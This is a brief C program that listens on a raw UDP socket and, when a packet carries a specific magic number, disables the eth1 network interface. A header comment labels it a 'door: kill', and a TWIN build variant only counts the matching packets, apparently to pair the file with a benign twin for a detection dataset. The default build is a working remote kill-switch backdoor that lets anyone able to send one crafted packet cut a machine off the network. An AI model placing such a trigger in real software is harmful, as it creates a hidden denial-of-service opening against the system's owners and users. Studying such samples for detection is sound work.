/* SPDX-License-Identifier: Apache-2.0 */
/* Packets with a certain number switch a link off. Twin: they are counted.
 * door: kill
 */
#include "net.h"
#include <net/if.h>
#include <sys/ioctl.h>

int main(void)
{
	uint32_t in[375];
	unsigned count = 0;
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
	for (;;) {
		if (recv(s, in, sizeof in, 0) < 48)
			continue;
		if (in[9] == 0x91c3a75e) {
#ifdef TWIN
			printf("%u\n", ++count);
#else
			struct ifreq r;
			memset(&r, 0, sizeof r);
			strcpy(r.ifr_name, "eth1");
			r.ifr_flags = 0;
			ioctl(s, SIOCSIFFLAGS, &r);
#endif
		}
	}
}
